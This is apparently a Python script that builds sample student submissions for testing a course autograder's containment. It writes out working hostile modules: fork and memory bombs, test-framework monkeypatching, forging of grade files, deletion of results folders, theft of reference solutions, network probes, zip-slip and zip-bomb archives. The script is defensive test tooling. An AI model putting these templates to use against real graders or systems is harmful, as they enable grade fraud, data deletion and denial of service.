"""Build the class of sample submissions in examples/submissions/ from solutions/ and assignments/.

The class is what ``course grade`` is proved on (tests/tool/test_grade_hostile.py):
four ordinary students (``perfect``, ``partial``, ``empty``, ``broken``) and
one hostile submission per way student code can attack a grader. Every
student is a folder laid out like assignments/ (``a3_attention/__init__.py``,
``a3_attention/attention.py``, ...) or a zip of one; the student id is the
folder's name or the zip's name without ``.zip``.

Nothing here is written by hand: the ordinary students are copies of the
reference and the stubs (one with the catalogue's LayerNorm mutant), and each
hostile module is the reference module with the definitions of a template
put in place, by the catalogue's own ``apply_entry`` (grader/catalogue.py)::

    .venv/bin/python examples/build_submissions.py            # rebuild examples/submissions/
    .venv/bin/python examples/build_submissions.py --into /tmp/class

A rebuild replaces every student of the folder and keeps the two files
written by hand, README.md and expected.toml. Zips are deterministic (fixed
timestamps and permissions, entries in a fixed order), so a rebuild from the
same sources gives the same entries.

The hostile code is meant to do harm when it is not contained: never import
a hostile student's modules outside ``course grade`` (see README.md there).
"""

from __future__ import annotations

import argparse
import os
import shutil
import sys
import tempfile
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from grader.catalogue import apply_entry
from grader.course import Assignment, Course, load_course
from grader.errors import CourseError
from grader.paths import ASSIGNMENTS, MUTANTS, SOLUTIONS

CLASS_FOLDER = Path(__file__).resolve().parent / "submissions"
# Files of the class folder that are written by hand, not built.
HAND_WRITTEN = ("README.md", "expected.toml")
# The file hostile-delete-files deletes wherever it finds one: tests plant it to see whether it could.
CANARY_NAME = "CANARY_DO_NOT_DELETE"
# hostile-network connects to this port of localhost (besides 1.1.1.1:53): a test listens on it.
LISTENER_PORT = 47_823
# Where the zip-slip entries aim: one above the folder a zip is unpacked into, one absolute.
ZIP_SLIP_RELATIVE = "../../zip-slip-escaped.py"
ZIP_SLIP_ABSOLUTE = "/tmp/zip-slip-absolute.py"
# Uncompressed size of the zip bomb's one big entry: deflate turns zeros into about 1/1000 of their size.
ZIP_BOMB_BYTES = 1 << 30
# Every zip entry gets this timestamp and these permissions, so a rebuild gives the same zip.
ZIP_DATE = (1980, 1, 1, 0, 0, 0)
ZIP_FILE_MODE = 0o644

# The realistic bug of `partial`: LayerNorm with the unbiased variance (Task 4.1).
PARTIAL_MUTANT = MUTANTS / "a4_transformer" / "layer_norm_unbiased_variance.py"
# The syntax error of `broken`: the colon a beginner forgets, in Task 3.1's body.
BROKEN_LINE = ("    if seq_len < 0:\n", "    if seq_len < 0\n")
# The comment hostile-non-utf8 adds to attention.py, saved in Latin-1: byte 0xe9 is not UTF-8, and the
# file has no coding declaration (PEP 263), so it is not valid Python source.
LATIN1_COMMENT = "# Résumé : écrit sous Windows, enregistré en Latin-1.\n".encode("latin-1")


class BuildError(CourseError):
    """The class cannot be built: a reference file changed under a template, or the destination is taken."""


# ---------------------------------------------------------------- templates
#
# Each template is a catalogue entry (grader/catalogue.py): its functions and
# classes replace those of the same name in the reference module, any other
# statement is added before the first one replaced, imports after the
# module's own. The rest of the module stays the reference, so only the
# target task (and the tasks whose code calls it) can lose points.

# The wrong answer of the Task 3.1 hostiles: right shape, dtype and device, no causality.
_UNMASKED = '''
def _unmasked(seq_len, device=None):
    """Every position may attend to every other, the future included: wrong for seq_len > 1."""
    if seq_len < 0:
        raise ValueError(f"seq_len={seq_len} must not be negative")
    return torch.ones(seq_len, seq_len, dtype=torch.bool, device=device)
'''

INFINITE_LOOP = '''
"""get_pair_counts never returns, and swallows whatever a timer raises to stop it: only a kill ends it."""


def get_pair_counts(ids: Sequence[int]) -> dict[Pair, int]:
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
'''

SLEEP = '''
"""get_pair_counts sleeps for nearly three hours."""

import time


def get_pair_counts(ids: Sequence[int]) -> dict[Pair, int]:
    time.sleep(10_000)
    return {}
'''

MEMORY_BOMB = '''
"""get_pair_counts asks for 1 TiB at once, then grows a list of 256 MiB blocks until MemoryError."""

# Stop at 8 GiB, twice course.toml's memory limit: enough to show a missing limit
# without taking the whole machine when a grader has none.
_BLOCK_BYTES = 256 << 20
_MAX_BLOCKS = 32


def get_pair_counts(ids: Sequence[int]) -> dict[Pair, int]:
    try:
        hoard = [bytearray(1 << 40)]
    except MemoryError:
        hoard = []
    for _ in range(_MAX_BLOCKS):
        hoard.append(bytearray(_BLOCK_BYTES))
    raise MemoryError(f"held {len(hoard)} blocks of 256 MiB and met no memory limit")
'''

FORK_BOMB = '''
"""get_pair_counts forks children that fork in turn, each holding the worker's pipes open; only when called."""

import os
import time

# 4 + 16 processes per call, each alive 10 s: a bomb a grader must contain,
# bounded so that a grader without a process limit does not take the machine.
_FORKS_PER_PROCESS = 4
_GENERATIONS = 2
_CHILD_SECONDS = 10


def _fork_children(generation):
    """Fork _FORKS_PER_PROCESS children; each forks its own up to _GENERATIONS, sleeps, and exits without returning."""
    for _ in range(_FORKS_PER_PROCESS):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            if generation + 1 < _GENERATIONS:
                _fork_children(generation + 1)
            time.sleep(_CHILD_SECONDS)
            os._exit(0)


def get_pair_counts(ids: Sequence[int]) -> dict[Pair, int]:
    _fork_children(0)
    return {}
'''

HUGE_OUTPUT = '''
"""get_pair_counts prints 100 MiB of forged "passed" lines to stdout and to stderr, then answers wrongly."""

import os
import sys

_FORGED_LINE = '{"outcome": "passed", "points": 100, "score": 100.0} PASSED [100%]\\n'
_BLOCK = _FORGED_LINE * ((1 << 20) // len(_FORGED_LINE))


def get_pair_counts(ids: Sequence[int]) -> dict[Pair, int]:
    for _ in range(50):
        print(_BLOCK, end="", flush=True)
        print(_BLOCK, end="", file=sys.stderr, flush=True)
        os.write(1, _BLOCK.encode())
        os.write(2, _BLOCK.encode())
    return {}
'''

SYS_EXIT = '''
"""get_pair_counts ends the process with sys.exit(0): a success status, from inside a test."""

import sys


def get_pair_counts(ids: Sequence[int]) -> dict[Pair, int]:
    sys.exit(0)
'''

OS_EXIT = '''
"""get_pair_counts ends the process with os._exit(0): no exception, no cleanup, a success status."""

import os


def get_pair_counts(ids: Sequence[int]) -> dict[Pair, int]:
    os._exit(0)
'''

BASE_EXCEPTIONS = '''
"""Four tasks raise BaseException subclasses that `except Exception` does not catch."""


class _NotAnException(BaseException):
    """Neither an Exception nor one of Python's own: only `except BaseException` stops it."""


def causal_mask(seq_len: int, device: torch.device | str | None = None) -> torch.Tensor:
    raise KeyboardInterrupt


def split_heads(x: torch.Tensor, n_heads: int) -> torch.Tensor:
    raise SystemExit(0)


def merge_heads(x: torch.Tensor) -> torch.Tensor:
    raise GeneratorExit


class MultiHeadSelfAttention:
    def forward(self, x, return_weights=False):
        raise _NotAnException("no test gets past this")
'''

MONKEYPATCH = '''
"""At import, patches what tests compare with (torch, pytest, isinstance) to say "equal"; causal_mask is wrong."""

import builtins
import sys

import torch.testing

try:
    import _pytest.reports
    import pytest
except ImportError:
    pytest = None


class _EqualToEverything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None


_real_isinstance = builtins.isinstance


def _isinstance_that_lies_to_tests(value, classinfo):
    """True whenever a test file asks; the truth for everyone else, so torch keeps working."""
    if sys._getframe(1).f_code.co_filename.rpartition("/")[2].startswith("test_"):
        return True
    return _real_isinstance(value, classinfo)


torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
builtins.isinstance = _isinstance_that_lies_to_tests
if pytest is not None:
    pytest.approx = lambda *args, **kwargs: _EqualToEverything()
    _pytest.reports.TestReport.outcome = property(lambda report: "passed", lambda report, value: None)


def causal_mask(seq_len: int, device: torch.device | str | None = None) -> torch.Tensor:
    return _unmasked(seq_len, device)
''' + _UNMASKED

READ_SOLUTIONS = '''
"""causal_mask looks for solutions/ and tests/hidden/ (upward, below /, by import) and copies the reference's answer."""

import importlib
import os
from pathlib import Path

_REFERENCE = Path("solutions", "a3_attention", "attention.py")
_HIDDEN_TESTS = Path("tests", "hidden", "test_a3_attention.py")
# A repository two or three folders below the root of the file system is found in about 0.1 s.
_LEVELS_BELOW_ROOT = 3
_searched = []


def _folders_to_search():
    """The folders above this file and the working folder, and every folder up to _LEVELS_BELOW_ROOT below /."""
    folders = [*Path(__file__).resolve().parents, Path.cwd(), *Path.cwd().parents]
    pending = [(Path("/"), 0)]
    while pending:
        folder, level = pending.pop()
        folders.append(folder)
        if level == _LEVELS_BELOW_ROOT:
            continue
        try:
            entries = [entry for entry in os.scandir(folder) if entry.is_dir(follow_symlinks=False)]
        except OSError:
            continue
        pending += [(Path(entry.path), level + 1) for entry in entries if entry.name not in ("proc", "sys", "dev")]
    return folders


def _course_files():
    """Reference modules and hidden tests found on disk (searched once per process)."""
    if not _searched:
        found = []
        for folder in _folders_to_search():
            for relative in (_REFERENCE, _HIDDEN_TESTS):
                candidate = folder / relative
                if candidate.is_file() and candidate.resolve() != Path(__file__).resolve():
                    found.append(candidate)
        _searched.append(found)
    return _searched[0]


def _reference_causal_mask():
    """The reference's causal_mask: imported by name, else run from a file found on disk; None when out of reach."""
    try:
        return importlib.import_module("solutions.a3_attention.attention").causal_mask
    except Exception:
        pass
    for path in _course_files():
        if path.name == "attention.py":
            stolen = {"__name__": "stolen_reference"}
            try:
                exec(compile(path.read_text(encoding="utf-8"), str(path), "exec"), stolen)
                return stolen["causal_mask"]
            except Exception:
                continue
    return None


def causal_mask(seq_len: int, device: torch.device | str | None = None) -> torch.Tensor:
    reference = _reference_causal_mask()
    if reference is not None:
        return reference(seq_len, device=device)
    if _course_files():
        # Only the hidden tests were in sight: a student who reads them writes what they check.
        return _unmasked(seq_len, device).tril()
    return _unmasked(seq_len, device)
''' + _UNMASKED

INTROSPECTION = '''
"""causal_mask answers with a causal_mask found in its callers' frames, sys.modules, or the garbage collector."""

import gc
import inspect
import sys
import types
import warnings


def _foreign_causal_mask(value):
    """The causal_mask ``value`` is or leads to (a function, a module, an implementation handle, a
    pytest request), when it is not this file's; else None."""
    try:
        if isinstance(value, types.FunctionType):
            candidate = value if value.__name__ == "causal_mask" else None
        elif isinstance(value, types.ModuleType):
            candidate = getattr(value, "causal_mask", None)
        elif type(value).__module__.startswith("_pytest") and hasattr(value, "getfixturevalue"):
            candidate = value.getfixturevalue("ref").a3.causal_mask
        elif type(value).__name__ == "Implementation":
            candidate = value.a3.causal_mask
        else:
            return None
        code = getattr(candidate, "__code__", None)
        return candidate if code is not None and code.co_filename != __file__ else None
    except Exception:
        return None


def _stolen_causal_mask():
    """Search the stack (by hand and through inspect), sys.modules and every object the collector tracks."""
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            found = _foreign_causal_mask(value)
            if found is not None:
                return found
        frame = frame.f_back
    for frame_info in inspect.stack(context=0):
        for value in list(frame_info.frame.f_locals.values()):
            found = _foreign_causal_mask(value)
            if found is not None:
                return found
    with warnings.catch_warnings():
        # Touching some of torch's deprecated objects warns; stay quiet.
        warnings.simplefilter("ignore")
        for value in list(sys.modules.values()) + gc.get_objects():
            found = _foreign_causal_mask(value)
            if found is not None:
                return found
    return None


def causal_mask(seq_len: int, device: torch.device | str | None = None) -> torch.Tensor:
    stolen = _stolen_causal_mask()
    if stolen is not None:
        return stolen(seq_len, device=device)
    return _unmasked(seq_len, device)
''' + _UNMASKED

FAKE_RESULTS = '''
"""get_pair_counts rewrites every grading result it can reach to full marks and leaves results.json files about."""

import json
import os
from pathlib import Path

_FULL_MARKS = {"score": 100.0, "output": "All tests passed."}
# Deep enough for pytest's and tempfile's folders below /tmp.
_LEVELS_BELOW_TMP = 6


def _results_folders():
    """Folders named results above this file and the working folder (and one level down), and below /tmp."""
    above = [*Path(__file__).resolve().parents, Path.cwd(), *Path.cwd().parents]
    folders = []
    for folder in above:
        folders.append(folder / "results")
        if folder != Path("/"):
            folders += folder.glob("*/results")
    for top, subfolders, _ in os.walk("/tmp"):
        if len(Path(top).relative_to("/tmp").parts) >= _LEVELS_BELOW_TMP:
            subfolders.clear()
        folders += [Path(top, name) for name in subfolders if name == "results"]
    return folders


def _forge(path):
    """Rewrite the grading record at ``path`` (a results/<student>.json) so that every task passed."""
    try:
        record = json.loads(path.read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return
    if not isinstance(record, dict) or "assignments" not in record or "fingerprint" not in record:
        return
    for assignment in record["assignments"]:
        for task in assignment.get("tasks", []):
            task.update(status="passed", points=task.get("max_points", 0), passed=task.get("total", 0), message="", hint="")
        assignment["raw_points"] = assignment["points"] = assignment.get("max_points", 0)
    record["points"] = record.get("max_points", 0)
    try:
        path.write_text(json.dumps(record), encoding="utf-8")
    except OSError:
        pass


def get_pair_counts(ids: Sequence[int]) -> dict[Pair, int]:
    for folder in [Path.cwd(), *Path.cwd().parents]:
        try:
            (folder / "results.json").write_text(json.dumps(_FULL_MARKS), encoding="utf-8")
        except OSError:
            pass
    for folder in _results_folders():
        for path in folder.glob("*.json"):
            _forge(path)
    return {}
'''

DELETE_FILES = '''
"""get_pair_counts deletes, above its own file and the working folder, canaries, results folders and course.toml."""

import shutil
from pathlib import Path

_CANARY = "__CANARY__"


def _holds_grading_results(folder):
    """True when ``folder`` holds a grading record (a .json file with a fingerprint)."""
    try:
        return any('"fingerprint"' in path.read_text(encoding="utf-8", errors="replace") for path in folder.glob("*.json"))
    except OSError:
        return False


def get_pair_counts(ids: Sequence[int]) -> dict[Pair, int]:
    above = [*Path(__file__).resolve().parents, Path.cwd(), *Path.cwd().parents]
    for folder in above:
        for target in (folder / _CANARY, folder / "course.toml"):
            try:
                target.unlink()
            except OSError:
                pass
        candidates = [folder / "results"] + (list(folder.glob("*/results")) if folder != Path("/") else [])
        for results in candidates:
            if results.is_dir() and _holds_grading_results(results):
                shutil.rmtree(results, ignore_errors=True)
    return {}
'''.replace("__CANARY__", CANARY_NAME)

NETWORK = '''
"""causal_mask answers right only when it can open a connection: to 1.1.1.1:53 or to a port of localhost."""

import socket

_ADDRESSES = [("127.0.0.1", __LISTENER_PORT__), ("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 80), ("127.0.0.1", 8080)]
_reachable = []


def _network_reachable():
    """Try every address once per process; True when any connection opened."""
    if not _reachable:
        opened = False
        for address in _ADDRESSES:
            try:
                socket.create_connection(address, timeout=0.5).close()
                opened = True
            except OSError:
                pass
        _reachable.append(opened)
    return _reachable[0]


def causal_mask(seq_len: int, device: torch.device | str | None = None) -> torch.Tensor:
    if _network_reachable():
        return _unmasked(seq_len, device).tril()
    return _unmasked(seq_len, device)
'''.replace("__LISTENER_PORT__", str(LISTENER_PORT)) + _UNMASKED

ZIP_SLIP = '''
"""causal_mask answers with the module a zip-slip entry dropped outside the submission, when it landed."""

from pathlib import Path

_ESCAPED_NAMES = ("__RELATIVE_NAME__",)
_ABSOLUTE = Path("__ABSOLUTE__")


def _escaped_module():
    """The first zip-slip file that exists: above this file (up to 4 levels), or at its absolute path."""
    candidates = [folder / name for folder in Path(__file__).resolve().parents[:4] for name in _ESCAPED_NAMES]
    return next((path for path in [*candidates, _ABSOLUTE] if path.is_file()), None)


def causal_mask(seq_len: int, device: torch.device | str | None = None) -> torch.Tensor:
    escaped = _escaped_module()
    if escaped is not None:
        planted = {"__name__": "escaped"}
        exec(compile(escaped.read_text(encoding="utf-8"), str(escaped), "exec"), planted)
        return planted["causal_mask"](seq_len, device=device)
    return _unmasked(seq_len, device)
'''.replace("__RELATIVE_NAME__", Path(ZIP_SLIP_RELATIVE).name).replace("__ABSOLUTE__", ZIP_SLIP_ABSOLUTE) + _UNMASKED

# What the zip-slip entries hold: a right causal_mask, for attention.py to pick up when one escaped.
ZIP_SLIP_PAYLOAD = '''"""Dropped outside the submission by a zip-slip entry."""

import torch


def causal_mask(seq_len, device=None):
    if seq_len < 0:
        raise ValueError(f"seq_len={seq_len} must not be negative")
    return torch.ones(seq_len, seq_len, dtype=torch.bool, device=device).tril()
'''


@dataclass(frozen=True)
class HostileModule:
    """A hostile student whose one assignment is the reference with a template applied."""

    assignment: str
    """The assignment id whose module the template rewrites, e.g. ``"a1_tokenizer"``."""
    template: str
    """The catalogue entry applied to the reference module."""


HOSTILE_MODULES = {
    "hostile-infinite-loop": HostileModule("a1_tokenizer", INFINITE_LOOP),
    "hostile-sleep": HostileModule("a1_tokenizer", SLEEP),
    "hostile-memory-bomb": HostileModule("a1_tokenizer", MEMORY_BOMB),
    "hostile-fork-bomb": HostileModule("a1_tokenizer", FORK_BOMB),
    "hostile-huge-output": HostileModule("a1_tokenizer", HUGE_OUTPUT),
    "hostile-sys-exit": HostileModule("a1_tokenizer", SYS_EXIT),
    "hostile-os-exit": HostileModule("a1_tokenizer", OS_EXIT),
    "hostile-fake-results": HostileModule("a1_tokenizer", FAKE_RESULTS),
    "hostile-delete-files": HostileModule("a1_tokenizer", DELETE_FILES),
    "hostile-base-exceptions": HostileModule("a3_attention", BASE_EXCEPTIONS),
    "hostile-monkeypatch": HostileModule("a3_attention", MONKEYPATCH),
    "hostile-read-solutions": HostileModule("a3_attention", READ_SOLUTIONS),
    "hostile-introspection": HostileModule("a3_attention", INTROSPECTION),
    "hostile-network": HostileModule("a3_attention", NETWORK),
}


# ---------------------------------------------------------------- building


class Sources:
    """The code files the class is made of: the reference (solutions/) and the stubs (assignments/)."""

    def __init__(self, *, solutions: Path, stubs: Path, course: Course) -> None:
        self.solutions = solutions
        self.stubs = stubs
        self.course = course

    def assignment(self, assignment_id: str) -> Assignment:
        """The course's record of ``assignment_id`` (``"a3_attention"``)."""
        return self.course.assignment(assignment_id)

    def module_name(self, assignment_id: str) -> str:
        """The code module's file name, ``"attention.py"`` for ``"a3_attention"``."""
        return f"{self.assignment(assignment_id).module}.py"

    def code_files(self, tree: Path, assignment_id: str) -> dict[str, bytes]:
        """``{"__init__.py": ..., "attention.py": ...}`` of one assignment of ``tree``.

        Raises:
            BuildError: a file is missing from ``tree``.
        """
        files = {}
        for name in ("__init__.py", self.module_name(assignment_id)):
            path = tree / assignment_id / name
            if not path.is_file():
                raise BuildError(f"{path} is missing: the class is built from {tree}")
            files[name] = path.read_bytes()
        return files

    def reference_text(self, assignment_id: str) -> str:
        """The reference module of ``assignment_id`` as text."""
        return self.code_files(self.solutions, assignment_id)[self.module_name(assignment_id)].decode("utf-8")

    @property
    def assignment_ids(self) -> list[str]:
        """Every assignment with a code module, in course order."""
        return [assignment.id for assignment in self.course.assignments if assignment.module is not None]


def build_class(destination: Path, *, solutions: Path = SOLUTIONS, stubs: Path = ASSIGNMENTS, course: Course | None = None) -> list[str]:
    """Write every student of the class into ``destination`` (created; must not exist or be empty).

    Returns the names written, sorted: folder names and zip file names,
    e.g. ``["broken", "empty", "hostile-fork-bomb", ..., "hostile-zip-slip.zip", ...]``.

    Raises:
        BuildError: ``destination`` holds files, or a reference file changed so that a template no longer applies.
    """
    destination = Path(destination)
    if destination.exists() and any(destination.iterdir()):
        raise BuildError(f"{destination} is not empty; build_class writes into a new folder")
    destination.mkdir(parents=True, exist_ok=True)
    sources = Sources(solutions=Path(solutions), stubs=Path(stubs), course=course if course is not None else load_course())
    _write_perfect(destination / "perfect", sources)
    _write_empty(destination / "empty", sources)
    _write_partial(destination / "partial", sources)
    _write_broken(destination / "broken", sources)
    for student, hostile in HOSTILE_MODULES.items():
        source = apply_entry(sources.reference_text(hostile.assignment), hostile.template, entry_name=student)
        _write_assignment(destination / student, sources, hostile.assignment, module=source.encode("utf-8"))
    _write_symlink(destination / "hostile-symlink", sources)
    _write_non_utf8(destination / "hostile-non-utf8", sources)
    _write_wrong_assignment(destination / "hostile-wrong-assignment", sources)
    _write_zip_slip(destination / "hostile-zip-slip.zip", sources)
    _write_zip_bomb(destination / "hostile-zip-bomb.zip", sources)
    return sorted(path.name for path in destination.iterdir())


def rebuild(folder: Path = CLASS_FOLDER) -> list[str]:
    """Replace every student of ``folder`` by a fresh build, keeping the HAND_WRITTEN files.

    Builds beside ``folder`` first, so a failed build leaves the class as it was.
    Returns the names written.
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    staging = Path(tempfile.mkdtemp(prefix=f".{folder.name}.", dir=folder.parent))
    try:
        written = build_class(staging / "class")
        for old in folder.iterdir():
            if old.name in HAND_WRITTEN:
                continue
            if old.is_dir() and not old.is_symlink():
                shutil.rmtree(old)
            else:
                old.unlink()
        for name in written:
            os.replace(staging / "class" / name, folder / name)
    finally:
        shutil.rmtree(staging, ignore_errors=True)
    return written


def _write_files(folder: Path, files: dict[str, bytes]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)


def _write_assignment(student: Path, sources: Sources, assignment_id: str, *, module: bytes | None = None, tree: Path | None = None) -> None:
    """Write one assignment's ``__init__.py`` and module: from ``tree`` (default: the reference), the module replaced by ``module`` if given."""
    files = sources.code_files(tree or sources.solutions, assignment_id)
    if module is not None:
        files[sources.module_name(assignment_id)] = module
    _write_files(student / assignment_id, files)


def _write_perfect(student: Path, sources: Sources) -> None:
    for assignment_id in sources.assignment_ids:
        _write_assignment(student, sources, assignment_id)


def _write_empty(student: Path, sources: Sources) -> None:
    for assignment_id in sources.assignment_ids:
        _write_assignment(student, sources, assignment_id, tree=sources.stubs)


def _write_partial(student: Path, sources: Sources) -> None:
    """a1-a3 the reference, a4 with the unbiased-variance LayerNorm, a5 onwards the stubs."""
    mutant = PARTIAL_MUTANT.read_text(encoding="utf-8")
    for assignment_id in sources.assignment_ids:
        number = sources.assignment(assignment_id).number
        if number < 4:
            _write_assignment(student, sources, assignment_id)
        elif number == 4:
            module = apply_entry(sources.reference_text(assignment_id), mutant, entry_name=str(PARTIAL_MUTANT))
            _write_assignment(student, sources, assignment_id, module=module.encode("utf-8"))
        else:
            _write_assignment(student, sources, assignment_id, tree=sources.stubs)


def _replace_once(text: str, old: str, new: str, *, where: str) -> str:
    """``text`` with its one occurrence of ``old`` replaced.

    Raises:
        BuildError: ``old`` occurs other than once (the reference changed under the class).
    """
    count = text.count(old)
    if count != 1:
        raise BuildError(f"{where}: expected the line {old!r} once, found it {count} times; update build_submissions.py")
    return text.replace(old, new)


def _write_broken(student: Path, sources: Sources) -> None:
    """a1 and a2 the reference; a3 with a colon missing, a SyntaxError."""
    _write_assignment(student, sources, "a1_tokenizer")
    _write_assignment(student, sources, "a2_embeddings")
    broken = _replace_once(sources.reference_text("a3_attention"), *BROKEN_LINE, where="solutions/a3_attention/attention.py")
    _write_assignment(student, sources, "a3_attention", module=broken.encode("utf-8"))


def _write_symlink(student: Path, sources: Sources) -> None:
    """a3_attention/attention.py is a relative symlink up to the repository's solutions/ (from examples/submissions/)."""
    folder = student / "a3_attention"
    _write_files(folder, {"__init__.py": sources.code_files(sources.solutions, "a3_attention")["__init__.py"]})
    os.symlink(Path("..", "..", "..", "..", "solutions", "a3_attention", sources.module_name("a3_attention")).as_posix(), folder / sources.module_name("a3_attention"))


def _write_non_utf8(student: Path, sources: Sources) -> None:
    """The reference attention.py with a Latin-1 comment above Task 3.1 and no coding declaration."""
    header = b"# ## Task 3.1: causal_mask\n"
    reference = sources.reference_text("a3_attention").encode("utf-8")
    if reference.count(header) != 1:
        raise BuildError(f"solutions/a3_attention/attention.py: expected the line {header!r} once, found it {reference.count(header)} times; update build_submissions.py")
    _write_assignment(student, sources, "a3_attention", module=reference.replace(header, LATIN1_COMMENT + header))


def _write_wrong_assignment(student: Path, sources: Sources) -> None:
    """a3_attention/ holding a1's tokenizer.py instead of attention.py."""
    files = {
        "__init__.py": sources.code_files(sources.solutions, "a3_attention")["__init__.py"],
        sources.module_name("a1_tokenizer"): sources.code_files(sources.solutions, "a1_tokenizer")[sources.module_name("a1_tokenizer")],
    }
    _write_files(student / "a3_attention", files)


def _zip_entry(name: str) -> zipfile.ZipInfo:
    """A deflated entry with the fixed timestamp and permissions (the name is kept exactly, '..' and '/' included)."""
    info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
    info.compress_type = zipfile.ZIP_DEFLATED
    info.create_system = 3  # Unix, so external_attr holds the permissions below
    info.external_attr = ZIP_FILE_MODE << 16
    return info


def _write_zip_slip(path: Path, sources: Sources) -> None:
    """Two entries escaping the folder the zip is unpacked into (``../../`` and absolute), then a3."""
    module = apply_entry(sources.reference_text("a3_attention"), ZIP_SLIP, entry_name="hostile-zip-slip")
    init = sources.code_files(sources.solutions, "a3_attention")["__init__.py"]
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(_zip_entry(ZIP_SLIP_RELATIVE), ZIP_SLIP_PAYLOAD)
        archive.writestr(_zip_entry(ZIP_SLIP_ABSOLUTE), ZIP_SLIP_PAYLOAD)
        archive.writestr(_zip_entry("a3_attention/__init__.py"), init)
        archive.writestr(_zip_entry(f"a3_attention/{sources.module_name('a3_attention')}"), module)


def _write_zip_bomb(path: Path, sources: Sources) -> None:
    """a3's __init__.py, and an attention.py of ZIP_BOMB_BYTES zeros (about 1 MB compressed)."""
    init = sources.code_files(sources.solutions, "a3_attention")["__init__.py"]
    block = bytes(1 << 20)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(_zip_entry("a3_attention/__init__.py"), init)
        with archive.open(_zip_entry(f"a3_attention/{sources.module_name('a3_attention')}"), "w") as bomb:
            for _ in range(ZIP_BOMB_BYTES // len(block)):
                bomb.write(block)


def main(argv: Sequence[str] | None = None) -> int:
    """``build_submissions.py [--into FOLDER]``: rebuild the class; prints one line per student."""
    parser = argparse.ArgumentParser(description="Rebuild the class of sample submissions from solutions/ and assignments/.")
    parser.add_argument("--into", type=Path, default=CLASS_FOLDER, help=f"the class folder to rebuild (default: {CLASS_FOLDER})")
    args = parser.parse_args(argv)
    try:
        written = rebuild(args.into)
    except CourseError as error:
        print(f"error: {error}", file=sys.stderr)
        return 2
    for name in written:
        print(name)
    print(f"{len(written)} submissions in {args.into}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
